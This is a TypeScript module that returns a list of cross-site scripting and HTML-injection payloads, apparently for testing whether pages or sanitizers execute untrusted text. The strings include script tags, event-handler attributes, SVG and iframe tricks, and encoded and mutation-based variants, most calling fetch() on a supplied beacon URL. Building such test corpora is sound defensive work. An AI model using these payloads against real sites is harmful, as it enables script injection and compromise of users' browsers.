/**
 * Texts that have made pages run what they should show: elements, attributes, comments, styles, encodings.
 *
 * Each tells on itself: it changes the title, opens a dialog, or asks the server at `beacon`.
 */
export function payloads(beacon: string): readonly string[] {
  const run = `document.title='attacked';fetch('${beacon}')`;
  return [
    `<script>${run}</script>`,
    `"><script>${run}</script>`,
    `'><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</style><script>${run}</script>`,
    `--><script>${run}</script>`,
    `]]><script>${run}</script>`,
    `</svg><script>${run}</script>`,
    `</text></svg><img src=x onerror="${run}">`,
    `<img src=x onerror="${run}">`,
    `<img src="${beacon}">`,
    `"><img src="${beacon}">`,
    `<svg onload="${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<svg><image href="${beacon}"/></svg>`,
    `<svg><use href="${beacon}#a"/></svg>`,
    `<svg><foreignObject><iframe src="${beacon}"></iframe></foreignObject></svg>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="${beacon}"></object>`,
    `<embed src="${beacon}">`,
    `<link rel=stylesheet href="${beacon}">`,
    `<meta http-equiv=refresh content="0;url=${beacon}">`,
    `<base href="${beacon}">`,
    `<form action="${beacon}"><input autofocus onfocus="${run}"></form>`,
    `<details open ontoggle="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<body onload="${run}">`,
    `<style>@import url(${beacon});</style>`,
    `<style>body{background:url(${beacon})}</style>`,
    `" style="background:url(${beacon})`,
    `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
    `' onclick='${run}'`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `\u003cscript\u003e${run}\u003c/script\u003e`,
    `<scr\u0000ipt>${run}</scr\u0000ipt>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template>`,
    `<script>alert(1)</script>`,
    `\u001b]8;;${beacon}\u001b\\link\u001b]8;;\u001b\\`,
  ];
}
